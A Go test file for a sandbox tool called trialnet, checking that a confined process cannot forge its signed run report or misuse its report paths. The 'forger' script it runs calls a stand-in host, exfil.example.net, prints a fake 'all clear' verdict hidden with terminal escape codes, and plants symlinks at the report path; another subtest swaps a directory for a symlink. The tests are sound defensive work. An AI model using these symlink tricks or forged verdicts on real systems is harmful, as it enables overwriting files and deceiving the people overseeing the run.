//go:build linux

package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/trialnet/trialnet/agent"
	"github.com/trialnet/trialnet/internal/privtest"
	"github.com/trialnet/trialnet/internal/testpty"
	"github.com/trialnet/trialnet/record"
)

// forger is a Trial that makes one refused CONNECT, then prints a forged
// "all clear" summary and leaves the terminal with autowrap off and the
// cursor at the right margin, as the reviewer's did; and plants a symlink
// where the report will be written, to an operator's file.
const forger = `curl -sS --max-time 5 https://exfil.example.net/ 2>/dev/null
printf 'trialnet: Trial run-x: exit 0 after 1s; tunnels: 0 allowed, 0 refused; verdict: 0 direct egress packets (ok)\n\033[?7l\033[999C' >&2
ln -s "$VICTIM" "$REPORT" && ln -s "$VICTIM" "$REPORT.planted"
echo '{"verdict":"forged"}' >&3 2>/dev/null
exit 0`

type runReport struct {
	Trial   string              `json:"trial"`
	Exit    int                 `json:"exit_code"`
	Proxy   record.TrialStats   `json:"proxy"`
	Verdict string              `json:"verdict"`
	Summary string              `json:"summary"`
	Receipt agent.SignedReceipt `json:"receipt"`
}

// The verdict a harness reads is trialnet's: the report goes to a file
// the Trial cannot write (a symlink it planted there is replaced, its
// target untouched) or to a descriptor it never had, and carries a
// receipt that verify accepts, and refuses once changed.
func TestPrivilegedRunReportIsTheVerdict(t *testing.T) {
	privtest.Require(t)
	privtest.RequireTool(t, "curl")
	installedByTest(t)
	// A directory the Trial's uid can reach and write, outside its own
	// /tmp.
	shared := privtest.SharedDir(t, "report-")
	if err := os.Chmod(shared, 0o1777); err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(t.TempDir(), "operator-file")
	if err := os.WriteFile(victim, []byte("untouched\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	report := filepath.Join(shared, "report.json")
	t.Setenv("VICTIM", victim)
	t.Setenv("REPORT", report)

	check := func(t *testing.T, b []byte) runReport {
		t.Helper()
		var r runReport
		if err := json.Unmarshal(b, &r); err != nil {
			t.Fatalf("report: %v\n%s", err, b)
		}
		if r.Proxy.Denied != 1 || strings.Contains(r.Verdict, "forged") || !strings.Contains(r.Summary, "1 refused (exfil.example.net:443 ×1)") {
			t.Fatalf("report %+v: want the real verdict, one refusal", r)
		}
		if r.Receipt.Signature == nil {
			t.Fatal("the report carries no signed receipt")
		}
		return r
	}

	t.Run("file", func(t *testing.T) {
		code, _, errOut := trialnet("run", "--allow", "allowed.example.test:443", "--uid", "65534", "--report", report, "--", "sh", "-c", forger)
		if code != 0 {
			t.Fatalf("run: exit %d\n%s", code, errOut)
		}
		if b, _ := os.ReadFile(victim); string(b) != "untouched\n" {
			t.Fatalf("the operator's file, which the Trial's symlink pointed at: %q", b)
		}
		if _, err := os.Lstat(report + ".planted"); err != nil {
			t.Fatalf("the Trial could not plant its symlink (the test shows nothing): %v", err)
		}
		if fi, err := os.Lstat(report); err != nil || !fi.Mode().IsRegular() {
			t.Fatalf("the report is not a regular file: %v %v", fi, err)
		}
		b, err := os.ReadFile(report)
		if err != nil {
			t.Fatal(err)
		}
		check(t, b)
		if code, out, errOut := trialnet("verify", report); code != 0 || !strings.Contains(out, "receipt ok") {
			t.Fatalf("verify the report: exit %d\n%s%s", code, out, errOut)
		}
		// Changed after signing: refused.
		var sr struct {
			Receipt agent.SignedReceipt `json:"receipt"`
		}
		if err := json.Unmarshal(b, &sr); err != nil {
			t.Fatal(err)
		}
		var compact bytes.Buffer
		if err := json.Compact(&compact, sr.Receipt.Receipt); err != nil {
			t.Fatal(err)
		}
		changed := bytes.Replace(compact.Bytes(), []byte(`"tunnels_denied":1`), []byte(`"tunnels_denied":0`), 1)
		if bytes.Equal(changed, compact.Bytes()) {
			t.Fatal("the receipt has no tunnels_denied of 1 to change")
		}
		sr.Receipt.Receipt = changed
		forged, _ := json.Marshal(sr)
		path := filepath.Join(t.TempDir(), "forged.json")
		if err := os.WriteFile(path, forged, 0o644); err != nil {
			t.Fatal(err)
		}
		if code, out, errOut := trialnet("verify", path); code != exitFailure || !strings.Contains(errOut, "does not verify") {
			t.Fatalf("verify a changed receipt: exit %d, %q %q; want refused", code, out, errOut)
		}
	})

	t.Run("directory swapped for a symlink", func(t *testing.T) {
		// The report's directory is the Trial's to rename: it swaps it for
		// a symlink to a directory of root's, where the report would then
		// land, as root.
		out := filepath.Join(shared, "out")
		if err := os.Mkdir(out, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(out, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		rootDir := t.TempDir()
		swap := fmt.Sprintf("mv %s %s.old && ln -s %s %s", out, out, rootDir, out)
		code, _, errOut := trialnet("run", "--uid", "65534", "--report", filepath.Join(out, "r.json"), "--", "sh", "-c", swap)
		if code != 0 {
			t.Fatalf("run: exit %d\n%s", code, errOut)
		}
		if fi, err := os.Lstat(out); err != nil || fi.Mode()&os.ModeSymlink == 0 {
			t.Fatalf("the Trial did not swap the directory (the test shows nothing): %v %v", fi, err)
		}
		if _, err := os.Stat(filepath.Join(rootDir, "r.json")); err == nil {
			t.Fatal("root wrote the report through the Trial's symlink")
		}
		if _, err := os.Stat(filepath.Join(out+".old", "r.json")); err != nil {
			t.Fatalf("the report is not in the directory named when run started: %v", err)
		}
	})

	t.Run("descriptor", func(t *testing.T) {
		f, err := os.Create(filepath.Join(t.TempDir(), "fd-report.json"))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		code, _, errOut := trialnet("run", "--allow", "allowed.example.test:443", "--uid", "65534", "--report-fd", fmt.Sprint(f.Fd()), "--",
			"sh", "-c", strings.ReplaceAll(forger, ">&3", fmt.Sprintf(">&%d", f.Fd())))
		if code != 0 {
			t.Fatalf("run: exit %d\n%s", code, errOut)
		}
		b, err := os.ReadFile(f.Name())
		if err != nil {
			t.Fatal(err)
		}
		check(t, b)
	})
}

// After the Trial, a terminal gets back autowrap, the cursor, plain
// attributes and the main screen, and a fresh line, before trialnet's
// own lines.
func TestResetTerminal(t *testing.T) {
	master, slave := testpty.Open(t, 24, 80)
	resetTerminal(slave)
	resetTerminal(&bytes.Buffer{}) // not a terminal: nothing
	buf := make([]byte, 64)
	n, err := master.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	got := string(buf[:n])
	for _, want := range []string{"\x1b[?7h", "\x1b[?25h", "\x1b[0m", "\x1b[?1049l"} {
		if !strings.Contains(got, want) {
			t.Fatalf("reset %q lacks %q", got, want)
		}
	}
}

// run confines where a Trial makes sockets and FIFOs (its own /dev/shm),
// unless it is run without unix confinement, which the command then gets.
func TestPrivilegedRunConfinesSocketPaths(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	shared := privtest.SharedDir(t, "fifo-")
	if err := os.Chmod(shared, 0o1777); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		flags []string
		code  int
	}{{nil, 1}, {[]string{"--no-unix-confine"}, 0}} {
		fifo := filepath.Join(shared, fmt.Sprintf("fifo-%d", c.code))
		args := append(append([]string{"run", "--uid", "65534"}, c.flags...), "--", "mkfifo", fifo)
		if code, _, errOut := trialnet(args...); code != c.code {
			t.Errorf("run %v: exit %d, want %d\n%s", c.flags, code, c.code, errOut)
		}
	}
	if code, _, errOut := trialnet("run", "--uid", "65534", "--", "mkfifo", "/dev/shm/own"); code != 0 {
		t.Errorf("a FIFO in the Trial's own /dev/shm: exit %d\n%s", code, errOut)
	}
}

// verify on a file that holds no receipt, or with a key file that is no
// key, says so and fails.
func TestVerifyBadInput(t *testing.T) {
	dir := t.TempDir()
	empty := filepath.Join(dir, "empty.json")
	if err := os.WriteFile(empty, []byte(`{"verdict":"ok"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, errOut := trialnet("verify", empty); code != exitUsage || !strings.Contains(errOut, "holds no signed receipt") {
		t.Errorf("verify a file without a receipt: exit %d, %q", code, errOut)
	}
	signed := filepath.Join(dir, "receipt.json")
	if err := os.WriteFile(signed, []byte(`{"receipt":{"schema":1},"signature":"AAAA","public_key":"AAAA"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, errOut := trialnet("verify", "--key", empty, signed); code != exitUsage || !strings.Contains(errOut, "is not an ed25519 public key") {
		t.Errorf("verify with a key file that is no key: exit %d, %q", code, errOut)
	}
}
